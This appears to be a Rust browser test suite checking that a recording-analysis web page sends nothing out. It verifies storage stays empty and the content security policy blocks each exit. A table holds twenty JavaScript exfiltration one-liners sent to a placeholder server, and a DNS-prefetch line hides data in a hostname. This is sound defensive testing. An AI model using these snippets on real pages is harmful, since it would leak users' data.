//! Nothing leaves the page: the network is watched, and the policy is tried.

use std::time::Duration;

use serde_json::Value;
use thirtyfour::Key;

use crate::outside_server::OutsideServer;
use crate::recordings::{choose, pascal};
use crate::session;

/// Marks in the network log where the page has loaded and a recording comes in.
const MARKER: &str = "index.html?recordings-follow";

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn a_recording_causes_no_request_but_for_the_pages_own_files() {
    let Some(pascal) = pascal() else { return };
    let files = choose(&pascal, "set_b", 3);
    let aftermath = session::run(|page| async move {
        let marked: u16 = page.eval_async(&fetch_status(MARKER)).await;
        assert_eq!(marked, 200);
        page.choose(&files).await;
        page.results(files.len()).await;
        // A label is no business of Chromium's server for forms either.
        let label = page.wait_for("#person").await;
        label.click().await.unwrap();
        label.send_keys(Key::Control + "a").await.unwrap();
        label.send_keys("K-204".to_owned() + Key::Enter).await.unwrap();
        page.wait_for_text("#person", "K-204").await;
        tokio::time::sleep(Duration::from_secs(2)).await;
    })
    .await;
    let marker = format!("{}{MARKER}", aftermath.url);
    let position = aftermath.requests.iter().position(|request| request.url == marker);
    let after = &aftermath.requests[position.expect("the marker is in the log") + 1..];
    for request in &aftermath.requests {
        assert_eq!(request.method, "GET", "{request:?}");
        assert!(request.url.starts_with(&aftermath.url), "{request:?}");
    }
    for request in after {
        assert!(!request.url.contains('?'), "{request:?} carries data");
    }
    assert_eq!(aftermath.names, Vec::<String>::new(), "names were looked up");
    eprintln!("{} requests to load, {} after", position.unwrap_or_default(), after.len());
}

/// A dropped file takes another way into the page than a chosen one.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn a_dropped_file_stays_on_the_page() {
    let aftermath = session::run(|page| async move {
        page.eval::<Value>(DROP_A_TEXT).await;
        let shown = page.results(1).await;
        assert_eq!((shown[0].file.as_str(), shown[0].status.as_str()), ("note.wav", "refused"));
        let url = page.browser.current_url().await.unwrap();
        assert_eq!(url.as_str(), page.url, "the browser opened the dropped file");
    })
    .await;
    assert!(aftermath.requests.iter().all(|request| request.method == "GET"));
}

const DROP_A_TEXT: &str = r#"
const data = new DataTransfer();
data.items.add(new File(["no recording"], "note.wav"));
const drop = new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
document.querySelector("main, #page > *").dispatchEvent(drop);
return null;"#;

/// What the page may remember: what came of testing a GPU.
const KEPT: &str = r"
const done = arguments[arguments.length - 1];
const kept = [...Object.keys(localStorage), ...Object.keys(sessionStorage)];
const databases = indexedDB.databases().then((all) => all.map(({ name }) => name));
const files = navigator.storage.getDirectory().then(async (folder) => {
    const names = [];
    for await (const name of folder.keys()) names.push(name);
    return names;
});
Promise.all([databases, caches.keys(), files]).then((all) => done([...kept, ...all.flat(), document.cookie]));";

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn nothing_of_a_recording_is_kept_in_the_browser() {
    let Some(pascal) = pascal() else { return };
    let files = choose(&pascal, "set_b", 2);
    session::run(|page| async move {
        page.choose(&files).await;
        page.results(files.len()).await;
        let kept: Vec<String> = page.eval_async(KEPT).await;
        let beside: Vec<_> =
            kept.iter().filter(|key| !key.is_empty() && !key.starts_with("lubdub-gpu")).collect();
        assert!(beside.is_empty(), "{beside:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn every_way_out_of_the_page_is_blocked_and_a_listening_server_hears_nothing() {
    let outside = OutsideServer::start();
    let server = outside.clone();
    let aftermath = session::run(|page| async move {
        let mut surprises = Vec::new();
        for (name, attempt, expected) in ATTEMPTS {
            let script = tried(&attempt.replace("SERVER", &server.address));
            let told: String = page.eval_async(&script).await;
            let heard = server.heard();
            if told != expected || !heard.is_empty() {
                surprises.push((name, told, heard));
            }
        }
        assert!(surprises.is_empty(), "{surprises:#?}");
        page.eval::<Value>(LOOK_UP).await;
        tokio::time::sleep(Duration::from_secs(2)).await;
        let handles = page.browser.windows().await.unwrap();
        assert_eq!(handles.len(), 1, "a window was opened");
        let refusals = page.console().await;
        assert!(!refusals.is_empty(), "the console tells of no violation");
    })
    .await;
    let server = &outside.address;
    let left = aftermath.requests.iter().find(|request| request.url.contains(server));
    assert_eq!(left, None);
    // No policy of a page forbids this one: docs/page.md says so, and the test above that the page doesn't do it.
    assert!(aftermath.names.iter().any(|name| name.contains("hidden-in-a-name")));
    assert_eq!(outside.heard(), Vec::<String>::new());
}

/// Has the browser look up a name, in which data could be hidden.
const LOOK_UP: &str = r#"
const href = "http://hidden-in-a-name.example.org/";
document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href }));
return null;"#;

/// Ways out of the page by name, a script that takes each with data to `SERVER`, and what is told of it: the directive
/// that blocks it, or what is missing for it.
const ATTEMPTS: [(&str, &str, &str); 20] = [
    (
        "fetch",
        r#"fetch("http://SERVER/", { method: "POST", body: "x" }).catch(() => 0)"#,
        "connect-src",
    ),
    (
        "XMLHttpRequest",
        r#"const r = new XMLHttpRequest(); r.open("POST", "http://SERVER/"); r.send("x")"#,
        "connect-src",
    ),
    ("beacon", r#"navigator.sendBeacon("http://SERVER/", "x")"#, "connect-src"),
    ("WebSocket", r#"new WebSocket("ws://SERVER/?x")"#, "connect-src"),
    ("EventSource", r#"new EventSource("http://SERVER/?x")"#, "connect-src"),
    (
        "ping of a link",
        r##"const a = Object.assign(document.createElement("a"), { href: "#", ping: "http://SERVER/?x" });
        document.body.append(a); a.click(); a.remove()"##,
        "connect-src",
    ),
    ("image", r#"new Image().src = "http://SERVER/?x""#, "img-src"),
    ("favicon", r#"add("link", { rel: "icon", href: "http://SERVER/?x" })"#, "img-src"),
    ("sound", r#"new Audio("http://SERVER/?x").load()"#, "media-src"),
    ("script", r#"add("script", { src: "http://SERVER/?x" })"#, "script-src-elem"),
    ("module", r#"import("http://SERVER/?x").catch(() => 0)"#, "script-src-elem"),
    ("style", r#"add("link", { rel: "stylesheet", href: "http://SERVER/?x" })"#, "style-src-elem"),
    ("font", r#"new FontFace("x", "url(http://SERVER/?x)").load().catch(() => 0)"#, "font-src"),
    ("frame", r#"add("iframe", { src: "http://SERVER/?x" })"#, "frame-src"),
    ("plug-in", r#"add("object", { data: "http://SERVER/?x" })"#, "object-src"),
    (
        "form",
        r#"add("form", { action: "http://SERVER/?x", method: "post" }).submit()"#,
        "form-action",
    ),
    ("worker", r#"new Worker("http://SERVER/?x")"#, "SecurityError"),
    (
        "import in a worker",
        r#"new Worker(URL.createObjectURL(new Blob(["importScripts('http://SERVER/?x')"])))"#,
        "worker-src",
    ),
    (
        "WebRTC",
        r#"const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:SERVER" }] });
        peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"#,
        "TypeError",
    ),
    ("window", r#"window.open("http://SERVER/?x")"#, "TypeError"),
];

/// A script that takes a way out of the page, and answers with the directive that forbade it or the error's name; with
/// `nothing` where neither comes.
fn tried(attempt: &str) -> String {
    format!(
        r#"const done = arguments[arguments.length - 1];
const add = (kind, values) => {{
    const element = Object.assign(document.createElement(kind), values);
    document.body.append(element);
    return element;
}};
document.addEventListener(
    "securitypolicyviolation",
    (event) => done(event.effectiveDirective),
    {{ once: true }},
);
setTimeout(() => done("nothing"), 4000);
try {{ {attempt}; }} catch (error) {{ done(error.name); }}"#
    )
}

fn fetch_status(path: &str) -> String {
    format!(
        r#"const done = arguments[arguments.length - 1];
fetch("{path}").then((reply) => done(reply.status));"#
    )
}
